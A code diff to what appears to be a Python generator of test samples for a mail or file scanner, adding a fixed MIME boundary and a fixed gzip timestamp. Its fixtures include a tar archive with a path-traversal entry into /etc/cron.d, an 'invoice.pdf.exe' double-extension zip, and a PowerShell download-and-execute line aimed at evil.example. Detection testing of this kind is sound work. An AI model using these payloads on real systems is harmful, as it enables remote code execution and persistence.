@@ -374,6 +374,8 @@ def mail(attachments=(), text="Please see the attachment.", subject="Invoice", s
     m.set_content(text)
     for name, data in attachments:
         m.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
+    if attachments:
+        m.set_boundary("sample")
     return m.as_bytes()
 
 
@@ -432,7 +434,7 @@ def all_samples():
         "archive-hello.cab": cab_of("hello.txt", b"hello world" * 50),
         "archive-hello.rar": rar_of("hello.txt", b"hello world" * 50),
         "archive-hello.iso": iso_of("hello.txt", b"hello world" * 50),
-        "archive-out.tar.gz": gzip.compress(tar_of({"a/b.txt": b"hello", "../../etc/cron.d/x": b"evil"})),
+        "archive-out.tar.gz": gzip.compress(tar_of({"a/b.txt": b"hello", "../../etc/cron.d/x": b"evil"}), mtime=0),
         "archive-double.zip": zip_of({"invoice.pdf.exe": pe()}),
         "script-host.js": host,
         "script-fetch.ps1": b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
